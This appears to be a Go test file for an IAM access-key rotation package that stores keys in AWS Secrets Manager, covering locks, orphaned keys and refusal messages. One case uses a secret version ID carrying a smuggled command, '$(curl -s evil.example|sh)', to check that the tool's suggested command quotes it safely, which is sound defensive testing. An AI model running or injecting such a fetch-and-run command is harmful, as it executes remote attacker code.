package iamkeys

import (
	"cmp"
	"context"
	"reflect"
	"strings"
	"testing"
	"time"
)

// The decision's rows, in their order, each with the words that it turns on and the
// rows that it goes before. The user is ada; her keys are K1, K2 and K3, K1 the oldest.
func TestDecide(t *testing.T) {
	const k1, k2, k3 = "AKIAIAMKEYSTEST00001", "AKIAIAMKEYSTEST00002", "AKIAIAMKEYSTEST00003"
	now := time.Date(2026, 11, 23, 9, 0, 0, 0, time.UTC)
	key := func(id string, age time.Duration, status Status) AccessKey {
		return AccessKey{UserName: "ada", AccessKeyID: id, Status: status, CreateDate: now.Add(-age)}
	}
	old, young := key(k1, 80*24*time.Hour, Active), key(k2, time.Hour, Active)
	both := []AccessKey{old, young}
	lockOf := newIntent("ada", now.Add(-time.Hour), "0a1b2c", []AccessKey{old})
	bobs := newIntent("bob", now.Add(-time.Hour), "3d4e5f", nil)
	ahead := func(d time.Duration) intent { return newIntent("ada", now.Add(d), "0a1b2c", nil) }

	for _, c := range []struct {
		name  string
		s     situation
		want  verdict
		code  Code
		names []string // what the error names beside the user, or the key that is decided on
	}{
		{name: "nothing there", want: makeKey},

		{name: "scheduled for deletion, live lock", s: situation{holds: deleted, lock: live}, code: SecretUnavailable},
		{name: "a replica, live lock", s: situation{holds: mirrored, lock: live, secret: SecretDescription{ARN: "arn:aws:secretsmanager:eu-west-1:123456789012:secret:x-AbCdEf", PrimaryRegion: "us-east-1"}}, code: SecretUnavailable, names: []string{"us-east-1"}},
		{name: "an ARN of no secret, two keys", s: situation{holds: notThere, keys: both}, code: SecretUnavailable},

		{name: "a live lock, delivered already", s: situation{lock: live, lockOf: lockOf, keys: []AccessKey{old}, holds: ours, holdsKey: k1, where: listed}, code: InProgress, names: []string{"2026-11-23T08:00:00Z"}},
		{name: "a live lock, two minutes ahead of us", s: situation{lock: live, lockOf: ahead(120 * time.Second)}, code: InProgress, names: []string{"may be at work until"}},
		{name: "a live lock from the future", s: situation{lock: live, lockOf: ahead(121 * time.Second)}, code: InProgress, names: []string{"is not yet", "--remove-from-version-id " + ahead(121*time.Second).versionID()}},
		{name: "our key, known but not listed, dead lock with a suspect", s: situation{holds: ours, holdsKey: k3, where: known, lock: dead, lockOf: lockOf, keys: both, suspects: both[1:]}, code: InProgress, names: []string{k3}},

		{name: "a dead lock, a suspect on record", s: situation{lock: dead, lockOf: lockOf, keys: both, suspects: both[1:], made: k2, recorded: suspect}, want: takeOver, names: []string{k2}},
		{name: "a dead lock, a suspect on record and another, one delivered", s: situation{lock: dead, lockOf: lockOf, keys: both, suspects: both, made: k2, recorded: suspect, holds: ours, holdsKey: k1, where: listed}, want: takeOver, names: []string{k2}},
		{name: "a dead lock, a suspect not on record, delivered", s: situation{lock: dead, lockOf: lockOf, keys: both, suspects: both[1:], holds: ours, holdsKey: k1, where: listed}, code: OrphanedKey, names: []string{k2, "iamkeys/0a1b2c", lockOf.versionID()}},
		{name: "a dead lock, its record's key is gone, a suspect", s: situation{lock: dead, lockOf: lockOf, keys: both, suspects: both[1:], made: k3, recorded: absent}, code: OrphanedKey, names: []string{k2}},
		{name: "a dead lock, its record's key is known, not listed", s: situation{lock: dead, lockOf: lockOf, made: k3, recorded: known}, code: OrphanedKey, names: []string{k3, "iamkeys/0a1b2c"}},
		{name: "a dead lock, its record's key is another's", s: situation{lock: dead, lockOf: lockOf, made: k3, recorded: elsewhere}, code: OrphanedKey, names: []string{k3}},
		{name: "a dead lock, its record's key listed but no suspect", s: situation{lock: dead, lockOf: lockOf, keys: []AccessKey{old}, made: k1, recorded: listed}, want: makeKey},
		{name: "a dead lock that made nothing", s: situation{lock: dead, lockOf: lockOf, keys: []AccessKey{old}}, want: makeKey},

		{name: "delivered already", s: situation{keys: []AccessKey{old}, holds: ours, holdsKey: k1, where: listed}, want: reuse, names: []string{k1}},
		{name: "delivered already, dead lock that made nothing", s: situation{keys: []AccessKey{old}, holds: ours, holdsKey: k1, where: listed, lock: dead}, want: reuse, names: []string{k1}},
		{name: "delivered already, another's dead lock", s: situation{keys: []AccessKey{old}, holds: ours, holdsKey: k1, where: listed, lock: others, lockOf: bobs}, want: reuse, names: []string{k1}},
		{name: "delivered, two keys", s: situation{keys: both, holds: ours, holdsKey: k2, where: listed}, want: reuse, names: []string{k2}},
		{name: "delivered, replaces an older one", s: situation{keys: both, holds: ours, holdsKey: k2, where: listed, replaces: k1}, want: reuse, names: []string{k2}},
		{name: "delivered, replaces one that is gone", s: situation{keys: []AccessKey{young}, holds: ours, holdsKey: k2, where: listed, replaces: k1}, want: reuse, names: []string{k2}},
		{name: "delivered, replaces it", s: situation{keys: []AccessKey{old}, holds: ours, holdsKey: k1, where: listed, replaces: k1}, want: makeKey},
		{name: "delivered, replaces a newer one", s: situation{keys: both, holds: ours, holdsKey: k1, where: listed, replaces: k2}, code: LimitExceeded},
		{name: "delivered, but switched off", s: situation{keys: []AccessKey{key(k1, time.Hour, Inactive)}, holds: ours, holdsKey: k1, where: listed}, want: makeKey},
		{name: "delivered, but expired", s: situation{keys: []AccessKey{key(k1, time.Hour, Expired)}, holds: ours, holdsKey: k1, where: listed}, want: makeKey},
		{name: "delivered, but gone", s: situation{keys: []AccessKey{old}, holds: ours, holdsKey: k3, where: absent}, want: makeKey},

		{name: "replaces no key of the user", s: situation{keys: []AccessKey{old}, replaces: k3, holds: anothers}, code: NoSuchEntity, names: []string{k3}},
		{name: "replaces no key of a user with two", s: situation{keys: both, replaces: k3}, code: NoSuchEntity},
		{name: "two keys, another's secret", s: situation{keys: []AccessKey{old, key(k2, 0, Inactive)}, holds: anothers}, code: LimitExceeded, names: []string{k1 + " (Active, 80 days old), " + k2 + " (Inactive, 0 days old)"}},
		{name: "three keys", s: situation{keys: append(both, key(k3, 0, Active))}, code: LimitExceeded, names: []string{k3}},

		{name: "another's dead lock", s: situation{lock: others, lockOf: bobs}, code: SecretInUse, names: []string{"iamkeys/3d4e5f", bobs.versionID(), "delete no key that a version here is named for"}},
		{name: "a lock that no create left", s: situation{lock: others, secret: SecretDescription{Versions: map[string][]string{"somebody-elses": {"iamkeys-lock"}}}}, code: SecretInUse, names: []string{"--remove-from-version-id somebody-elses"}},
		{name: "a lock on a version whose ID is a trap", s: situation{lock: others, secret: SecretDescription{Versions: map[string][]string{"$(curl -s evil.example|sh);'aaaaaaa": {"iamkeys-lock"}}}}, code: SecretInUse,
			names: []string{`--remove-from-version-id '$(curl -s evil.example|sh);'\''aaaaaaa'`}},
		{name: "another user's secret", s: situation{holds: anothers}, code: SecretInUse},
		{name: "another user's secret, overwrite", s: situation{holds: anothers, overwrite: true}, code: SecretInUse},
		{name: "our key, another's by now, overwrite", s: situation{holds: ours, holdsKey: k3, where: elsewhere, overwrite: true}, code: SecretInUse, names: []string{k3}},
		{name: "a value that we did not write", s: situation{holds: foreign}, code: SecretInUse},
		{name: "a value that we did not write, overwrite", s: situation{holds: foreign, overwrite: true}, want: makeKey},
		{name: "one key, nothing delivered", s: situation{keys: []AccessKey{old}}, want: makeKey},
		{name: "one key to replace, nothing delivered", s: situation{keys: []AccessKey{old}, replaces: k1}, want: makeKey},
	} {
		t.Run(c.name, func(t *testing.T) {
			c.s.now, c.s.userName, c.s.secretID = now, "ada", "iamkeys/ada/access-key"
			d := decide(c.s)
			if d.verdict != c.want || d.verdict == refused && CodeOf(d.err) != c.code {
				t.Fatalf("got verdict %d (%v), want %d (%s)", d.verdict, d.err, c.want, c.code)
			}
			says := d.key.AccessKeyID
			if d.verdict == refused {
				says = d.err.Error()
				c.names = append(c.names, "ada")
			}
			for _, name := range c.names {
				if !strings.Contains(says, name) {
					t.Errorf("got %q, which does not name %q", says, name)
				}
			}
			if d.verdict != refused && len(c.names) == 0 && says != "" {
				t.Errorf("got key %q, want none", says)
			}
		})
	}
}

// lookup answers GetAccessKeyLastUsed of keys that no list shows: by whom IAM knows them.
type lookup map[string]string

func (l lookup) GetAccessKeyLastUsed(_ context.Context, accessKeyID string) (LastUsed, error) {
	switch owner := l[accessKeyID]; owner {
	case "":
		return LastUsed{}, Refuse(NoSuchEntity, "no such key")
	case "denied":
		return LastUsed{}, Refuse(AccessDenied, "denied")
	case "fails":
		return LastUsed{}, Refuse(Throttled, "throttled")
	default:
		return LastUsed{UserName: owner}, nil
	}
}

// What labels, clocks and keys say, in words, with the borders that these turn on. The
// user is ada; the lock's intent, where there is one, noted K1 as the key that existed.
func TestReadSituation(t *testing.T) {
	const k1, k2, k3, arn = "AKIAIAMKEYSTEST00001", "AKIAIAMKEYSTEST00002", "AKIAIAMKEYSTEST00003", "arn:aws:secretsmanager:eu-west-1:123456789012:secret:iamkeys/ada/access-key-AbCdEf"
	now := time.Date(2026, 11, 23, 9, 0, 0, 0, time.UTC)
	key := func(id string, created time.Time) AccessKey {
		return AccessKey{UserName: "ada", AccessKeyID: id, Status: Active, CreateDate: created}
	}
	at := func(age time.Duration, userName string) intent {
		return newIntent(userName, now.Add(-age), "0a1b2c", []AccessKey{key(k1, now)})
	}
	old, bobs := at(time.Hour, "ada"), at(time.Hour, "bob")
	versions := func(pairs ...string) SecretDescription { // version, label, version, label ...
		d := SecretDescription{ARN: arn, Versions: map[string][]string{}}
		for i := 0; i < len(pairs); i += 2 {
			d.Versions[pairs[i]] = append(d.Versions[pairs[i]], pairs[i+1])
		}
		return d
	}
	locked := func(in intent, more ...string) SecretDescription {
		return versions(append([]string{in.versionID(), "iamkeys-lock"}, more...)...)
	}
	lone := func(sinceIntent time.Duration) []AccessKey { return []AccessKey{key(k2, old.time.Add(sinceIntent))} }
	ada := func(id string) string { return VersionID("ada", id) }

	for _, c := range []struct {
		name     string
		secretID string
		secret   SecretDescription
		keys     []AccessKey
		known    lookup
		want     situation // holds, holdsKey, where, lock, made and recorded
		suspects string
		code     Code
	}{
		{name: "no secret", want: situation{}},
		{name: "no secret of that ARN", secretID: arn, want: situation{holds: notThere}},
		{name: "no version", secret: versions()},
		{name: "scheduled for deletion", secret: SecretDescription{ARN: arn, Deleted: true, Versions: map[string][]string{"x": {"AWSCURRENT"}}}, want: situation{holds: deleted}},
		{name: "the primary of replicas", secret: SecretDescription{ARN: arn, PrimaryRegion: "eu-west-1"}},
		{name: "a replica", secret: SecretDescription{ARN: arn, PrimaryRegion: "eu-west-2"}, want: situation{holds: mirrored}},
		{name: "an intent that is current", secret: versions(old.versionID(), "AWSCURRENT")},
		{name: "another user's intent that is current", secret: versions(bobs.versionID(), "AWSCURRENT")},
		{name: "a foreign value", secret: versions("5f0e4b5c-0000-4000-8000-000000000000", "AWSCURRENT"), want: situation{holds: foreign}},
		{name: "a foreign value on top of ours", secret: versions("5f0e4b5c-0000-4000-8000-000000000000", "AWSCURRENT", ada(k1), "AWSPREVIOUS"), want: situation{holds: foreign}},
		{name: "another user's key", secret: versions(VersionID("bob", k1), "AWSCURRENT"), want: situation{holds: anothers}},
		{name: "our key, listed", secret: versions(ada(k2), "AWSCURRENT"), keys: lone(0), want: situation{holds: ours, holdsKey: k2, where: listed}},
		{name: "our key, not listed", secret: versions(ada(k2), "AWSCURRENT"), known: lookup{k2: "ada"}, want: situation{holds: ours, holdsKey: k2, where: known}},
		{name: "our key, another's by now", secret: versions(ada(k2), "AWSCURRENT"), known: lookup{k2: "ada-renamed"}, want: situation{holds: ours, holdsKey: k2, where: elsewhere}},
		{name: "our key, gone", secret: versions(ada(k2), "AWSCURRENT"), want: situation{holds: ours, holdsKey: k2, where: absent}},
		{name: "our key, gone as real IAM says it", secret: versions(ada(k2), "AWSCURRENT"), known: lookup{k2: "denied"}, want: situation{holds: ours, holdsKey: k2, where: absent}},
		{name: "our key, and IAM does not answer", secret: versions(ada(k2), "AWSCURRENT"), known: lookup{k2: "fails"}, code: Throttled},

		{name: "an intent without the lock", secret: versions(at(0, "ada").versionID(), "iamkeys-intent"), keys: lone(0)},
		{name: "a lock just before its death", secret: locked(at(LockLife-time.Second, "ada")), want: situation{lock: live}},
		{name: "a lock at its death", secret: locked(at(LockLife, "ada")), want: situation{lock: dead}},
		{name: "another user's lock just before its death", secret: locked(at(LockLife-time.Second, "bob")), want: situation{lock: live}},
		{name: "another user's lock at its death", secret: locked(at(LockLife, "bob")), keys: lone(0), want: situation{lock: others}},
		{name: "a lock on no intent", secret: versions(ada(k2), "iamkeys-lock"), keys: lone(0), want: situation{lock: others}},

		{name: "the key that existed", secret: locked(old), keys: []AccessKey{key(k1, old.time)}, want: situation{lock: dead}},
		{name: "a key made long before", secret: locked(old), keys: lone(-80 * 24 * time.Hour), want: situation{lock: dead}, suspects: k2},
		{name: "a key made 150 s after the intent", secret: locked(old), keys: lone(150 * time.Second), want: situation{lock: dead}, suspects: k2},
		{name: "a key made 151 s after the intent", secret: locked(old), keys: lone(151 * time.Second), want: situation{lock: dead}},
		{name: "a key that is delivered here", secret: locked(old, ada(k2), "AWSCURRENT"), keys: lone(0), want: situation{holds: ours, holdsKey: k2, where: listed, lock: dead}},
		{name: "a key that was delivered here by another create", secret: locked(old, ada(k2), "iamkeys-made-3d4e5f-"+k2), keys: lone(0), want: situation{lock: dead}},
		{name: "a key that another user's version is named for", secret: locked(old, VersionID("bob", k2), "AWSPREVIOUS"), keys: lone(0), want: situation{lock: dead}, suspects: k2},

		{name: "on record", secret: locked(old, old.versionID(), "iamkeys-made-0a1b2c-"+k2), keys: lone(0), want: situation{lock: dead, made: k2, recorded: suspect}, suspects: k2},
		{name: "on record, and another", secret: locked(old, old.versionID(), "iamkeys-made-0a1b2c-"+k2), keys: append(lone(0), key(k3, old.time)), want: situation{lock: dead, made: k2, recorded: suspect}, suspects: k2 + " " + k3},
		{name: "on record, the key that existed", secret: locked(old, old.versionID(), "iamkeys-made-0a1b2c-"+k1), keys: []AccessKey{key(k1, old.time)}, want: situation{lock: dead, made: k1, recorded: listed}},
		{name: "on record, too young", secret: locked(old, old.versionID(), "iamkeys-made-0a1b2c-"+k2), keys: lone(151 * time.Second), want: situation{lock: dead, made: k2, recorded: listed}},
		{name: "on record, delivered here", secret: locked(old, old.versionID(), "iamkeys-made-0a1b2c-"+k2, ada(k2), "AWSPREVIOUS"), keys: lone(0), want: situation{lock: dead, made: k2, recorded: listed}},
		{name: "on record, gone", secret: locked(old, old.versionID(), "iamkeys-made-0a1b2c-"+k2), want: situation{lock: dead, made: k2, recorded: absent}},
		{name: "on record, not listed but known", secret: locked(old, old.versionID(), "iamkeys-made-0a1b2c-"+k2), known: lookup{k2: "ada"}, want: situation{lock: dead, made: k2, recorded: known}},
		{name: "on record, another's by now", secret: locked(old, old.versionID(), "iamkeys-made-0a1b2c-"+k2), known: lookup{k2: "ada-renamed"}, want: situation{lock: dead, made: k2, recorded: elsewhere}},
		{name: "on record, and IAM does not answer", secret: locked(old, old.versionID(), "iamkeys-made-0a1b2c-"+k2), known: lookup{k2: "fails"}, code: Throttled},
		{name: "another nonce's record", secret: locked(old, old.versionID(), "iamkeys-made-3d4e5f-"+k2), keys: lone(0), want: situation{lock: dead}, suspects: k2},
		{name: "the record stands on another intent", secret: locked(old, at(2*time.Hour, "ada").versionID(), "iamkeys-made-0a1b2c-"+k2), keys: lone(0), want: situation{lock: dead}, suspects: k2},
		{name: "two records, one of them forged", secret: locked(old, old.versionID(), "iamkeys-made-0a1b2c-"+k2, old.versionID(), "iamkeys-made-0a1b2c-"+k3), keys: append(lone(0), key(k3, old.time)), want: situation{lock: dead}, suspects: k2 + " " + k3},
		{name: "finished: its record is delivered", secret: locked(old, ada(k2), "iamkeys-made-0a1b2c-"+k2), keys: append(lone(0), key(k3, old.time)), want: situation{lock: dead}},
		{name: "finished, and a record of its nonce is on the intent", secret: locked(old, ada(k2), "iamkeys-made-0a1b2c-"+k2, old.versionID(), "iamkeys-made-0a1b2c-"+k3), keys: append(lone(0), key(k3, old.time)), want: situation{lock: dead}},
	} {
		t.Run(c.name, func(t *testing.T) {
			s := situation{userName: "ada", secretID: cmp.Or(c.secretID, "iamkeys/ada/access-key"), now: now, keys: OldestFirst(c.keys), secret: c.secret}
			err := s.readContent(t.Context(), c.known)
			if err == nil {
				err = s.readLock(t.Context(), c.known)
			}
			if CodeOf(err) != c.code {
				t.Fatalf("got %v, want code %q", err, c.code)
			}
			if err != nil {
				return
			}
			var ids []string
			for _, k := range s.suspects {
				ids = append(ids, k.AccessKeyID)
			}
			if got := strings.Join(ids, " "); got != c.suspects {
				t.Errorf("suspects are %q, want %q", got, c.suspects)
			}
			got := situation{holds: s.holds, holdsKey: s.holdsKey, where: s.where, lock: s.lock, made: s.made, recorded: s.recorded}
			if !reflect.DeepEqual(got, c.want) {
				t.Errorf("got %+v, want %+v", got, c.want)
			}
		})
	}
}
